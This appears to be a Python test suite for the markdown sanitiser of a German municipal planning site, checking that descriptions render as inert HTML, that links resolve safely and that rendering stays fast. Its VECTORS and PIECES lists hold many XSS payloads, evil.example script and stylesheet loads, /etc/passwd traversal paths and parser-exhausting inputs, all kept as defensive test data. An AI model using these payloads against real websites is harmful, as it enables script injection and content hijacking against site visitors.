"""Descriptions: whatever a department or an enemy writes, the page shows text and does nothing."""

from __future__ import annotations

import re
import time
from itertools import pairwise
from posixpath import join, normpath
from urllib.parse import unquote, urlsplit

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from digitalfahrplan.presentation import body
from digitalfahrplan.presentation.body import body_html
from digitalfahrplan.presentation.links import Links
from digitalfahrplan.presentation.pages.measure.subject import BodyTargets
from digitalfahrplan.presentation.view import View
from digitalfahrplan.source.effort import is_costly
from tests.site.checks import active, foreign
from tests.site.html import Element, parse
from tests.site.plans import DOCS, view_of
from tests.site.towns import MINIMAL_MEASURE, MINIMAL_TOWN

FILES = {
    "kommune.yml": MINIMAL_TOWN,
    "buerger/website.md": MINIMAL_MEASURE.replace("stand:", "ehemals: [homepage]\nstand:"),
    "buerger/roadmap.md": MINIMAL_MEASURE,
}
TARGETS = BodyTargets(view_of(FILES), Links("massnahmen/hier/"))
PAGES = TARGETS.view.pages


def shown(markdown: str) -> Element:
    return parse(body_html(markdown, TARGETS))


def link(markdown: str) -> str | None:
    (found,) = shown(markdown).find("a")
    return found.attributes.get("href")


def assert_harmless(page: Element) -> None:
    """Only what may be read: no script, no style, no handler, nothing of ours, nothing foreign."""
    article = Element("article", {}, page.inside)
    assert not [*active(Element("", {}, [article])), *foreign(page)]
    diagrams = [element for element in page.walk() if "df-diagramm" in element.classes]
    drawn = {id(element) for diagram in diagrams for element in diagram.walk()}
    for element in page.walk():
        if element.tag and id(element) not in drawn:
            assert element.tag in body._TAGS
            assert not {"id", "class", "style", "name", "target"} & set(element.attributes)
            assert_leads_nowhere_bad(element)


def assert_leads_nowhere_bad(element: Element) -> None:
    for name in ("href", "src"):
        address = element.attributes.get(name, "#x")
        if address.startswith("#"):
            assert not address.startswith("#__")
        elif not re.match(r"(?:https?://[^/\\@]|mailto:)", address, re.IGNORECASE):
            parts = urlsplit(address)
            assert not parts.scheme
            assert not parts.netloc
            assert address.isprintable()
            assert "\\" not in address
            path = unquote(normpath(join("massnahmen/hier", parts.path))).removeprefix(".")
            assert path in DOCS or f"{path}/".removeprefix("/") in PAGES
            assert name == "href" or path in DOCS


PIECES = st.sampled_from(
    [
        "<script>", "</script>", "<style>", "<svg onload=x>", "<math>", "<iframe src=x>", "<a href=", "<img src=", "<b>", "</b>",
        "<p onclick=1>", '<p id="__x" class="md-nav">', "<form>", "<input>", "<table>", "<tr>", "<td>", "<th>", "</table>", "<h1>",
        "</h1>", "<details>", "<summary>", "<!--", "-->", "<![CDATA[", "]]>", "<?", "<plaintext>", "<textarea>", "<title>", "<xmp>",
        "<noscript>", "<template>", "<mi>", "<mglyph>", "<annotation-xml>", "<foreignObject>", "</p>", "<br>", "<pre>", "<code>",
        "javascript:alert(1)", "JaVa\tScript&colon;", "data:text/html,", "vbscript:", "//evil.example/", "\\\\evil.example",
        "https://a.example/", "mailto:a@b.example", "massnahmen/hier/", "../", "%2e%2e/", "%5C", "%0a", "%09", "javascript%3A1/",
        "bilder/plan.png", "website.md", "#kosten", "#__drawer", "](", "![", "[", "]", "(", ")", "<", ">", '"', "'", "`", "```",
        "```mermaid\n", "pie\n\"a\": 1\n", "graph LR\nA-->B\n", "# ", "###### ", "- ", "1. ", "> ", "|", "|-|\n", "\n", "\n\n",
        "    ", "\t", "&lt;", "&#60;", "&", "{{ 7*7 }}", "{: onclick=1 }", "{ #x .y }", "==", "**", "*", "_", "~~", "\\", "[a]: ",
        "onerror=alert(1)", " style=color:red", "\u00a0", "ß", "🏫",
    ]
)  # fmt: skip
CHARACTERS = st.text(st.characters(exclude_categories=["Cc", "Cs"]), max_size=20)
BODIES = st.lists(PIECES | CHARACTERS, max_size=40).map("".join)


@given(BODIES)
@settings(max_examples=600, deadline=None)
def test_any_text_becomes_harmless_html(markdown: str) -> None:
    html = body_html(markdown, TARGETS)
    page = parse(html)
    assert_harmless(page)
    levels = [int(element.tag[1]) for element in page.walk() if re.fullmatch("h[1-6]", element.tag)]
    assert not levels or levels[0] == 2
    assert all(after <= before + 1 for before, after in pairwise(levels))


@given(BODIES)
@settings(max_examples=300, deadline=None)
def test_what_was_sanitised_stays_as_it_is(markdown: str) -> None:
    html = body_html(markdown.replace("mermaid", ""), TARGETS)
    again = nh3.clean(html, tags=body._TAGS, attributes=body._ATTRIBUTES, link_rel="noopener noreferrer")
    assert again == html


@given(st.text(st.characters(exclude_categories=["Cc", "Cs"]), max_size=60))
@settings(deadline=None)
def test_code_shows_every_character(text: str) -> None:
    (code,) = shown(f"~~~~\n{text}\n~~~~").find("code")
    assert code.text == f"{text}\n"


VECTORS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnErRoR='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)></video>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(//evil.example/x.png)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href='vbscript:x'>x</a> <a href='file:///etc/passwd'>x</a> <a href='blob:x'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1)) [x](JAVASCRIPT&colon;alert(1)) [x](<java script:alert(1)>)",
    "[x](javascript://%0aalert(1)) <javascript:alert(1)>",
    "[x]\n\n[x]: javascript:alert(1) 'title'",
    "[x](massnahmen/hier/javascript%3Aalert(1)) [x](massnahmen/hier/%09javascript%3Aalert(1)/)",
    "![x](https://evil.example/x.png) ![x](//evil.example/x.png) ![x](HTTP:evil.example/x.png)",
    "![x](massnahmen/hier/%5C%5Cevil.example/x.png) ![x](\\\\evil.example/x.png) ![x](/%5Cevil.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=) <img srcset='//evil.example/x.png 2x' src=x>",
    "<img src=bilder/plan.png srcset=//evil.example/x.png style=position:fixed usemap=#x>",
    '<p id="__search" class="md-nav" name="forms" data-df-tabelle="x" role="alert" aria-label="x" tabindex=1 contenteditable>x</p>',
    "<div class=df-hinweis>Amtlich</div><search><nav><main><header><footer>x",
    "<x-y><slot></slot></x-y><![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE html><!--[if IE]><script>-->",
    "</article></div></body></html><script>alert(1)</script>",
    "{: onclick=alert(1) }\n{ #__x .md-nav onclick=alert(1) }\n\n## x { onclick=alert(1) #__y }",
    '<div data-df-block="1"></div>',
    "```mermaid\nflowchart LR\n  A[\"<img src=x onerror=alert(1)>\"] --> B\n```",
    "```mermaid\n%%{init: {\"securityLevel\": \"loose\"}}%%\nflowchart LR\n  A --> B\n```",
    "```mermaid\nflowchart LR\n  A --> B\n  click A href \"javascript:alert(1)\"\n```",
    "```mermaid\nsequenceDiagram\n  Alice->>Bob: <script>alert(1)</script>\n```",
    '<pre class="mermaid">flowchart LR</pre><code class="language-mermaid">pie</code>',
]  # fmt: skip


@pytest.mark.parametrize("markdown", VECTORS)
def test_known_attacks_do_nothing(markdown: str) -> None:
    assert_harmless(shown(markdown))
    assert_harmless(shown(f"> - {markdown}"))
    assert_harmless(shown(f"| a |\n|---|\n| {markdown} |"))
    assert_harmless(parse(body_html(markdown, TARGETS, live=True)))


@pytest.mark.parametrize(
    ("written", "leads_to"),
    [
        ("../buerger/website.md", "../website/"),
        ("website.md#kosten", "../website/#kosten"),
        ("website.md?plain=1", "../website/"),
        ("website.md#__drawer", "../website/"),
        ("homepage.md", "../website/"),
        ("../schule/roadmap.md", "../roadmap/"),
        ("../../docs/roadmap.md", "../../roadmap/"),
        ("../../docs/massnahmen/index.md", "../"),
        ("/roadmap/", "../../roadmap/"),
        ("roadmap", "../../roadmap/"),
        ("/haushalt/2027/", "../../haushalt/2027/"),
        ("/organisation/rathaus/", "../../organisation/rathaus/"),
        ("/", "../../"),
        ("#kosten", "#kosten"),
        ("https://www.example.de/a?b=c&d#e", "https://www.example.de/a?b=c&d#e"),
        ("http://www.example.de", "http://www.example.de"),
        ("https://www.example.de/@stadt", "https://www.example.de/@stadt"),
        ("mailto:rathaus@example.de", "mailto:rathaus@example.de"),
        ("../../docs/bilder/plan.png", "../../bilder/plan.png"),
    ],
)
def test_links_lead_to_pages(written: str, leads_to: str) -> None:
    assert link(f"[dorthin]({written})") == leads_to


@pytest.mark.parametrize(
    "written",
    [
        "nirgends.md", "../../docs/website.md", "../../docs/nirgends.md", "/nirgends/", "../../../../etc/passwd", "%2e%2e/%2e%2e/x/",
        "docs/../geheim/", "a//b/", "/%2fevil.example/", "//evil.example/", "https:evil.example", "https:///evil.example",
        "https://stadt.example@evil.example/", "%5C%5Cevil.example", "bilder/fehlt.png", "?q=1", "..", "mailto:", "#__search", "#a%20b",
        "website.md%00", "javascript%3Aalert(1)", "massnahmen/hier/javascript%3Aalert(1)/", "tel:112",
    ],
)  # fmt: skip
def test_other_addresses_lead_nowhere(written: str) -> None:
    assert link(f"[nirgendwohin]({written})") is None


def test_without_a_docs_folder_its_files_are_believed() -> None:
    targets = BodyTargets(View(TARGETS.view.plan), Links(""))
    assert 'href="seite/"' in body_html("[x](../../docs/seite.md)", targets)
    assert 'src="bilder/x.png"' in body_html("![x](bilder/x.png)", targets)
    assert 'href="irgendwo/"' in body_html("[x](/irgendwo/)", targets)


@pytest.mark.parametrize(
    "written", ["../../docs/bilder/plan.png", "/bilder/plan.png", "bilder/plan.png", "./docs/bilder/plan.png"]
)
def test_pictures_come_from_the_docs_folder(written: str) -> None:
    (picture,) = shown(f'![Plan]({written} "Titel")').find("img")
    assert picture.attributes == {"src": "../../bilder/plan.png", "alt": "Plan", "title": "Titel"}


def test_pictures_with_strange_names_are_found() -> None:
    (picture,) = shown("![](<bilder/ä b%231.png>)").find("img")
    assert picture.attributes["src"] == "../../bilder/%C3%A4%20b%231.png"


@pytest.mark.parametrize(
    "written", ["bilder/fehlt.png", "website.md", "roadmap/", "/", "../../docs/roadmap.md", "https://a.example/b.png"]
)
def test_other_pictures_are_dropped(written: str) -> None:
    assert not shown(f"![Bild]({written})").find("img")


def test_headings_begin_at_h2_without_gaps_and_raw_ones_are_none() -> None:
    page = shown("#### A\n\n###### B\n\n# C\n\n<h1>D</h1> <h3>E</h3>\n\nText <h2>F</h2>\n\n> # G")
    assert [(element.tag, element.text) for element in page.walk() if re.fullmatch("h[1-6]", element.tag)] == [
        ("h2", "A"), ("h3", "B"), ("h2", "C"), ("h2", "G"),
    ]  # fmt: skip


def test_tables_lists_and_folding_text_are_kept() -> None:
    page = shown(
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n3. x\n\n<details><summary>mehr</summary>\n\n**fett** ~~alt~~\n\n</details>"
    )
    assert [cell.attributes.get("align") for cell in page.find("td")] == ["left", "right"]
    assert page.find("ol")[0].attributes == {"start": "3"}
    (details,) = page.find("details")
    assert details.find("strong")[0].text == "fett"
    assert details.find("s")[0].text == "alt"


def test_sizes_are_numbers() -> None:
    page = shown(
        "<table><tr><td colspan=2 rowspan=99999>a<td align=right>b</table><img src=bilder/plan.png width=100% height=20>"
    )
    assert page.find("td")[0].attributes == {"colspan": "2"}
    assert page.find("img")[0].attributes == {"src": "../../bilder/plan.png", "height": "20"}


def test_macros_and_attribute_lists_are_text() -> None:
    text = "{{ config.site_name }} {% include 'x' %} {# y #} {: .z } --8<-- [TOC] :smile: $x$"
    assert shown(text).text.strip() == text


def test_mermaid_is_drawn_and_a_refused_one_shown() -> None:
    drawn = shown('Vorher\n\n```mermaid\npie title Anteile\n  "Papier" : 60\n  "Digital" : 40\n```\n\nNachher')
    assert [element.tag for element in drawn.inside if isinstance(element, Element)] == ["p", "div", "p"]
    assert drawn.find("svg")
    source = 'flowchart LR\n  A --> B\n  click A href "javascript:alert(1)"\n'
    (code,) = shown(f"```mermaid\n{source}```").find("code")
    assert code.text == source


def test_only_so_many_diagrams_are_drawn() -> None:
    page = shown('```mermaid\npie\n  "a" : 1\n```\n\n' * 30)
    assert len([element for element in page.walk() if "df-diagramm" in element.classes]) == body._DIAGRAMS
    assert len(page.find("pre")) == 30 - body._DIAGRAMS


def test_diagrams_in_lists_are_code() -> None:
    page = shown("- ```mermaid\n  pie\n  ```")
    assert not page.find("svg")
    assert page.find("li")[0].find("code")


def fill(line: str, size: int = 199_000) -> str:
    """Lines of at most 5,000 characters up to the size of a file."""
    text = line * (4_900 // len(line)) if "\n" not in line else line
    text = text if "\n" in line else f"{text}\n"
    return text * (size // len(text))


EXPENSIVE = {
    "picture brackets": fill("![a"),
    "brackets": fill("[a"),
    "brackets on lines": fill("[a\n"),
    "nested brackets": fill("[" * 200 + "a\n"),
    "links": fill("[a](b"),
    "emphasis": fill("**a *"),
    "emphasis inside words": fill("a**b_c"),
    "tags": fill("<a "),
    "comments": fill("<!-- "),
    "formatting with attributes": "".join(f"<b a{number}>" for number in range(20_000)),
    "formatting before paragraphs": "<i>" + "".join(f"<b a{number}>" for number in range(2_900)) + "x\n\n" + fill("x\n\n", 25_000),
    "formatting in boxes": "<p>" + "".join(f"<b a{number}>" for number in range(500)) + "</p>" + "<p>x</p>" * 249,
    "open lists": fill("<ul><li>"),
    "open boxes": fill("<div>\n"),
    "paragraphs": fill("x\n\n"),
    "list items": fill("- x\n"),
    "quotes": fill("> x\nx\n"),
    "definitions": "".join(f"[a{number}]: b\n" for number in range(14_000)),
    "wide table": "|a" * 2_400 + "|\n" + "|-" * 2_400 + "|\n" + fill("|x\n", 180_000),
    "tables": fill("|a|b|\n|-|-|\n|1|2|\n\n"),
    "entities": fill("&#"),
    "code": fill("`a"),
    "diagrams": fill('```mermaid\npie\n"a" : 1\n```\n\n'),
    "lists in lists": "".join("  " * depth + "- x\n" for depth in range(19)) * 470,
}  # fmt: skip


def affordable(markdown: str) -> str:
    """The longest beginning that is rendered."""
    low, high = 0, len(markdown)
    while high - low > 50:
        middle = (low + high) // 2
        low, high = (low, middle) if is_costly(markdown[:middle]) else (middle, high)
    return markdown[:low]


@pytest.mark.parametrize("name", EXPENSIVE)
def test_no_description_takes_long(name: str) -> None:
    whole = EXPENSIVE[name]
    began = time.process_time()
    shown_whole, shown_part = body_html(whole, TARGETS), body_html(affordable(whole), TARGETS)
    assert time.process_time() - began < 10, "seconds of work for one description"
    assert max(len(shown_whole), len(shown_part)) < 3_000_000


@pytest.mark.parametrize(
    ("mark", "most"),
    [("[", 3_000), ("<", 1_000), ("\n", 10_000), ("*", 20_000), ("_", 20_000), ("~", 20_000), ("|", 40_000)],
)
def test_what_costs_too_much_is_shown_as_written(mark: str, most: int) -> None:
    markdown = "Anfang" + f"{mark} " * most
    assert shown(markdown).find("p")
    page = shown(markdown + mark)
    assert page.find("pre")[0].find("code")[0].text == markdown + mark
    assert not page.find("p")


def test_an_ordinary_long_text_is_rendered() -> None:
    chapter = "## Kapitel\n\nEin **Absatz** mit [Link](website.md), `Code` und <br> Umbruch.\n\n- Punkt\n- Punkt\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
    assert len(shown(chapter * 700).find("h2")) == 700
